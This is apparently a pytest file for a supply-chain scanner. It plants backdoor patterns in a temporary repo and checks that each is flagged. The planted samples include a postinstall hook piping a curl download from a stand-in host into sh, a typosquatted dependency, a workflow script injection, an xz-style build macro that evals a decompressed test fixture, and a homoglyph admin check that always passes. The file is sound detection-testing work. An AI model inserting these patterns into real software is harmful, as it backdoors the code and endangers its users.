"""The shipped pack through the real `sentinel scan`: path-filtered rules see mirrored repo paths,
the Python checks run beside Semgrep, and an ordinary release-style commit stays quiet."""

from __future__ import annotations

import json
import lzma
from pathlib import Path

import pytest

from tests.helpers import GitRepo, run_cli

BASE = {
    "package.json": '{\n  "name": "app",\n  "version": "1.0.0",\n  "scripts": {"test": "jest"}\n}\n',
    "requirements.txt": "flask==3.0.3\n",
    ".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
    "      - run: make test\n",
    "src/app.js": "function isAdmin(user) {\n  return user.role === 'admin';\n}\n",
    "README.md": "# app\n",
}

PLANTED = {
    "package.json": '{\n  "name": "app",\n  "version": "1.0.1",\n  "scripts": {\n    "test": "jest",\n'
    '    "postinstall": "curl -s https://cdn.example.net/i.sh | sh"\n  }\n}\n',
    "requirements.txt": "flask==3.0.3\nreqeusts==2.31.0\n",
    ".github/workflows/triage.yml": "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
    '      - run: echo "${{ github.event.issue.title }}"\n',
    "m4/build-to-host.m4": "AC_DEFUN([gl_BUILD_TO_HOST],\n[\n"
    "  gl_cfg=`xz -dc $srcdir/tests/files/bad-3-corrupt_lzma2.xz | eval $gl_path_map`\n])\n",
    "tests/files/bad-3-corrupt_lzma2.xz": lzma.compress(bytes(range(256)) * 8),
    "src/app.js": "function isAdmin(user) {\n  return user.role === 'admin';\n}\n"
    "function is\u0410dmin(user) {\n  return true;\n}\n",
}

RELEASE = {
    "package.json": '{\n  "name": "app",\n  "version": "1.1.0",\n  "scripts": {\n    "test": "jest",\n'
    '    "postinstall": "node scripts/postinstall.js"\n  }\n}\n',
    "requirements.txt": "flask==3.0.3\nrequests==2.32.3\n",
    ".github/workflows/triage.yml": "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
    '      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n',
    "README.md": "# app\n\nNow with triage. Привет!\n",
}


@pytest.fixture
def repo(tmp_path: Path) -> GitRepo:
    repo = GitRepo(tmp_path / "repo")
    repo.commit("base", files=BASE)
    return repo


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "sentinel.yaml"
    path.write_text("weights: {unknown: 0, contractor: 0}\n", encoding="utf-8")  # the rules' own severities
    return path


def _scan(repo: GitRepo, config: Path, capsys: pytest.CaptureFixture[str]) -> list[dict[str, object]]:
    args = ["scan", "--repo", str(repo.path), "--base", "HEAD~1", "--format", "json", "--exit-zero"]
    code, out, err = run_cli([*args, "--config", str(config)], capsys)
    assert code == 0, err
    findings: list[dict[str, object]] = json.loads(out)["findings"]
    return findings


def test_planted_backdoors_are_found_where_they_were_added(
    repo: GitRepo, config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.commit("planted", files=PLANTED)
    found = {(f["rule"], f["path"], f["line"], f["severity"]) for f in _scan(repo, config, capsys)}
    expected = {
        ("npm-install-script-remote-fetch", "package.json", 6, "high"),
        ("dependency-typosquat", "requirements.txt", 2, "high"),
        ("gha-script-injection", ".github/workflows/triage.yml", 6, "high"),
        ("generic-build-decode-pipe-shell", "m4/build-to-host.m4", 3, "critical"),
        ("generic-build-reads-test-fixture", "m4/build-to-host.m4", 3, "high"),
        ("compressed-file", "tests/files/bad-3-corrupt_lzma2.xz", None, "medium"),
        ("confusable-identifier", "src/app.js", 4, "high"),
    }
    assert expected <= found, sorted(expected - found)


def test_an_ordinary_release_commit_raises_nothing_high(
    repo: GitRepo, config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.commit("release 1.1.0", files=RELEASE)
    loud = [f for f in _scan(repo, config, capsys) if f["severity"] in ("high", "critical")]
    assert loud == []
